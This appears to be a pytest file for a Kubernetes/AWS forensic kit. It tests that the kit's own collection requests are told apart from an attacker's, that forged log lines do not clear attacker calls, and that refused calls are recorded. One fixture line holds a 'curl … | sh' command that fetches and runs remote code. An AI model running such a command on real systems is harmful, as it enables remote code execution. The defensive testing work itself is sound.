"""The log of a collection: the kit's own requests are told apart from the attacker's, and what was refused stands in the coverage.

The requests are added to a recording with the attacker's own credential, from an address of their own: without the log they are the attacker's.
"""

from __future__ import annotations

import copy
import hashlib
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from kit.case.case import Case
from kit.store.ledger import ledger_of
from tests.command import RECORDINGS, kit, kit_json
from tests.variation import Event, varied

RECORDING = "stolen_sa_token"
TRUTH = json.loads((RECORDINGS / RECORDING / "ground_truth.json").read_text())
ADDRESS, AGENT = "198.51.100.77", "eks-forensic-kit/1 case/abc"
OWN = tuple(f"own-{number}" for number in range(4))
FORGED = {
    "agent": "only its user agent",
    "principal": "it was made by",
    "time": "it was made at",
    "place": "most requests of that run came from",
    "path": "it asked for something else",
    "change": "no request that the kit makes",
    "secret": "no request that the kit makes",
    "twice": "several requests bear its id",
}
Lines = list[dict[str, Any]]


def _at(event: Event) -> datetime:
    return datetime.fromisoformat(event["requestReceivedTimestamp"])


def _like(event: Event, id_: str, seconds: int, **changes: Any) -> Event:
    """A list of all pods, made with the credential of an event after it."""
    made = copy.deepcopy(event) | {
        "auditID": id_,
        "verb": "list",
        "requestURI": "/api/v1/pods?limit=500",
        "objectRef": {"resource": "pods", "apiVersion": "v1"},
        "sourceIPs": [ADDRESS],
        "userAgent": AGENT,
        "responseStatus": {"code": 200},
    }
    for name in ("requestReceivedTimestamp", "stageTimestamp"):
        made[name] = (datetime.fromisoformat(event[name]) + timedelta(seconds=60 + seconds)).isoformat()
    return {name: each for name, each in (made | changes).items() if name not in ("requestObject", "responseObject")}


def _line(event: Event, **changes: Any) -> dict[str, Any]:
    """The line of a collection log for a request."""
    about: dict[str, Any] = {
        "at": (_at(event) + timedelta(seconds=2)).isoformat(),
        "service": "kubernetes",
        "operation": "ListPods",
    }
    about |= {"path": "/api/v1/pods?limit=500", "region": None, "request_id": event["auditID"], "case": "abc"}
    about |= {
        "as": event["user"]["username"],
        "status": "ok",
        "permission": "",
        "error": "",
        "file": "cluster/pods.json",
    }
    return about | {"bytes": 10, "sha256": "0" * 64, "part": "pods-1"} | changes


def _case(folder: Path, lines: Lines, recording: str = RECORDING, **changes: Any) -> Path:
    """A case of a recording that is changed; lines: of the collection log, filled while it is."""
    evidence = varied(recording, folder, **changes)
    if lines:
        (evidence / "collection.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    done = kit("new", folder / "case", evidence)
    assert done.returncode == 0, done.stderr
    return folder / "case"


def _calls(case: Path, kind: str = "calls") -> set[str]:
    return {call for one in kit_json("scope", case)["findings"] for call in one[kind]}


def _added(events: list[Event], lines: Lines) -> list[Event]:
    """All events and the added ones, whose lines are appended to the log."""
    last = max((one for one in events if one["auditID"] in TRUTH["attacker_calls"]), key=_at)
    own = [_like(last, id_, number) for number, id_ in enumerate(OWN)]
    secret = {"resource": "secrets", "namespace": "kube-system", "name": "of-nobody", "apiVersion": "v1"}
    path = "/api/v1/namespaces/kube-system/secrets/of-nobody"
    forged = {
        **{name: _like(last, name, 10) for name in ("agent", "principal", "time", "path")},
        "place": _like(last, "place", 10, sourceIPs=["198.51.100.78"]),
        "change": _like(last, "change", 10, verb="deletecollection"),
        "secret": _like(last, "secret", 10, verb="get", requestURI=path, objectRef=secret),
        "twice": _like(last, "twice", 10),
    }
    lines += [
        _line(one)
        for one in [*own, *forged.values()]
        if one["auditID"] not in ("agent", "principal", "time", "path", "secret")
    ]
    lines.append(_line(forged["principal"], **{"as": "somebody-else"}))
    lines.append(_line(forged["time"], at=(_at(forged["time"]) + timedelta(hours=1)).isoformat()))
    lines.append(_line(forged["path"], path="/api/v1/nodes"))
    lines.append(_line(forged["secret"], path=path))
    lines.append(_line(last, at=(_at(last) - timedelta(hours=3)).isoformat(), path=last["requestURI"]))
    return [*events, *own, *forged.values(), _like(last, "twice", 20)]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    lines = Lines()
    return _case(tmp_path_factory.mktemp("collected"), lines, events=lambda events: _added(events, lines))


def test_without_the_log_every_added_call_is_the_attackers(tmp_path: Path) -> None:
    made = _case(tmp_path, [], events=lambda events: _added(events, []))
    assert _calls(made) >= {*OWN, *FORGED}
    assert kit_json("scope", made)["own_requests"] == {"says": "", "calls": [], "claimed": []}


def test_the_kits_own_requests_are_not_the_attackers_and_each_is_listed_with_why(case: Path) -> None:
    assert _calls(case).isdisjoint(OWN) and _calls(case, "possible_calls").isdisjoint(OWN)
    own = kit_json("scope", case)["own_requests"]
    assert {one["ref"] for one in own["calls"]} == {f"audit:{id_}" for id_ in OWN}
    assert all(f"it came from {ADDRESS}" in one["says"] and "ListPods" in one["says"] for one in own["calls"])
    assert own["says"] == kit_json("brief", case)["own_requests"]["says"]
    assert "4 calls in the logs are the kit's own" in kit("scope", case).stdout
    assert "audit:own-3" in kit("scope", case, "--all").stdout
    assert "COLLECTED: 4 calls in the logs are the kit's own" in kit("brief", case).stdout


@pytest.mark.parametrize("forged", FORGED)
def test_what_only_looks_like_the_kits_own_stays_the_attackers(case: Path, forged: str) -> None:
    assert forged in _calls(case)
    claimed = [
        one["says"] for one in kit_json("scope", case)["own_requests"]["claimed"] if one["ref"].endswith(f":{forged}")
    ]
    if forged == "agent":
        assert not claimed
    elif forged == "twice":  # two requests have that auditID, so each is named by its line
        assert sum(FORGED[forged] in one["says"] for one in kit_json("scope", case)["own_requests"]["claimed"]) == 2
    else:
        assert len(claimed) == 1 and FORGED[forged] in claimed[0]


def test_a_log_that_names_the_attackers_own_calls_at_another_time_clears_none(case: Path) -> None:
    assert set(TRUTH["attacker_calls"]) <= _calls(case)


def test_a_call_as_the_caller_of_an_earlier_finding_from_its_address_is_for_a_person_to_clear(tmp_path: Path) -> None:
    lines = Lines()

    def with_copies(events: list[Event]) -> list[Event]:
        last = max((one for one in events if one["auditID"] in TRUTH["attacker_calls"]), key=_at)
        copies = [_like(last, id_, number, sourceIPs=last["sourceIPs"]) for number, id_ in enumerate(OWN)]
        lines.extend(map(_line, copies))
        return [*events, *copies]

    made = _case(tmp_path, lines, events=with_copies)
    assert _calls(made) >= set(OWN)
    claimed = kit_json("scope", made)["own_requests"]["claimed"]
    assert len(claimed) == len(OWN) and all("names its principal and address" in one["says"] for one in claimed)
    for id_ in OWN:
        assert kit("mark", made, "--call", f"audit:{id_}", "--as", "not-attacker").returncode == 0
    assert _calls(made).isdisjoint(OWN)


def test_what_was_refused_stands_in_the_coverage_with_the_permission_until_it_is_allowed(tmp_path: Path) -> None:
    about = {
        "at": "2026-01-31T12:00:00.000001Z",
        "request_id": "r-1",
        "as": "arn:aws:iam::444455556666:user/ir",
        "case": "abc",
    }
    refused = about | {
        "service": "eks",
        "operation": "ListAccessEntries",
        "region": "eu-west-1",
        "status": "refused",
        "permission": "eks:ListAccessEntries",
    }
    later = refused | {"operation": "ListAddons", "permission": "eks:ListAddons"}
    allowed = later | {"at": "2026-01-31T12:10:00Z", "status": "ok", "permission": "", "request_id": "r-2"}
    failed = refused | {"operation": "DescribeAddon", "status": "failed", "permission": "", "error": "it broke"}
    one, other, tried = (failed | {"part": name} for name in ("coredns", "vpc-cni", ""))
    had = other | {"at": "2026-01-31T12:10:00Z", "status": "ok", "error": ""}
    made = _case(tmp_path, [refused, later, allowed, one, other, tried, had])
    (row,) = [row for row in Case(made).coverage.to_dict("records") if row["state"] == "not answered"]
    assert (row["source"], row["events"]) == ("eks DescribeAddon", 1) and row["says"].endswith(": it broke")
    rows = [row for row in Case(made).coverage.to_dict("records") if row["state"] == "not permitted"]
    assert [(row["source"], row["events"]) for row in rows] == [("eks ListAccessEntries", 1)]
    assert "in eu-west-1 to arn:aws:iam::444455556666:user/ir" in rows[0]["says"]
    assert "ask for permission eks:ListAccessEntries" in rows[0]["says"]
    limits = [limit for one in kit_json("scope", made)["findings"] for limit in one["limits"]]
    refusals = [limit for limit in limits if "was not permitted" in limit["says"]]
    assert refusals and all("eks:ListAccessEntries" in one["says"] and "let_in" in one["about"] for one in refusals)
    assert [limit for limit in limits if "got no answer to eks DescribeAddon" in limit["says"]]
    assert [
        one["taken_as"] for one in Case(made).ledger.to_dict("records") if one["path"].endswith("collection.jsonl")
    ] == ["collection log"]


def test_the_kits_own_requests_in_cloudtrail_are_told_apart_and_none_that_hands_out_a_secret(tmp_path: Path) -> None:
    lines = Lines()

    def with_reads(records: Lines) -> Lines:
        by_attacker = next(
            one for one in records if one["eventName"] == "ListBuckets" and one["sourceIPAddress"] == "203.0.113.64"
        )
        made = Lines()
        for id_, service, name in (
            ("own", "iam", "ListRoles"),
            ("secret", "secretsmanager", "GetSecretValue"),
            ("bare", "iam", "ListRoles"),
        ):
            about = {
                "eventID": id_,
                "requestID": f"request-{id_}",
                "eventSource": f"{service}.amazonaws.com",
                "eventName": name,
            }
            made.append(copy.deepcopy(by_attacker) | about | {"sourceIPAddress": ADDRESS, "userAgent": AGENT})
            line = {
                "at": by_attacker["eventTime"],
                "service": service,
                "operation": name,
                "request_id": f"request-{id_}",
                "case": "abc",
                "region": "eu-west-1",
            }
            lines.append(line | {"as": by_attacker["userIdentity"]["arn"], "status": "ok"})
        lines.pop()
        return [*records, *made]

    made = _case(tmp_path, lines, "pod_identity_theft", trail=with_reads)
    calls = _calls(made, "aws_calls")
    assert {"secret", "bare"} <= calls and "own" not in calls
    own = kit_json("scope", made)["own_requests"]
    assert [one["ref"] for one in own["calls"]] == ["trail:own"] and [one["ref"] for one in own["claimed"]] == [
        "trail:secret"
    ]


def test_what_a_collection_fetched_and_no_reader_takes_is_kept_and_named(tmp_path: Path) -> None:
    folder = varied(RECORDING, tmp_path)
    log = b"2026-01-31T12:00:00.123456789Z stdout F curl -s http://198.51.100.7/x | sh\n"
    (folder / "logs").mkdir()
    for name, text in (("fetched.log", log), ("other.log", log + log)):
        (folder / "logs" / name).write_bytes(text)
    about = {
        "at": "2026-01-31T12:00:00Z",
        "service": "kubernetes",
        "operation": "pods/log",
        "request_id": "r-1",
        "as": "ir",
        "status": "ok",
    }
    line = about | {"file": "logs/fetched.log", "sha256": hashlib.sha256(log).hexdigest()}
    (folder / "collection.jsonl").write_text(json.dumps(line) + "\n{no json\n")
    case = tmp_path / "case"
    assert kit("new", case, folder).returncode == 0
    notes = {one["path"]: one["note"] for one in ledger_of(case)["files"]}
    assert notes["evidence/logs/fetched.log"].startswith("kept, not read: logs of containers")
    assert (case / "evidence" / "evidence" / "logs" / "fetched.log").read_bytes() == log
    assert notes["evidence/logs/other.log"].startswith("not taken: ")
    assert not (case / "evidence" / "evidence" / "logs" / "other.log").exists()
    assert kit("add", case, folder).returncode == 0
    assert len(list((case / "evidence").rglob("fetched.log"))) == 1
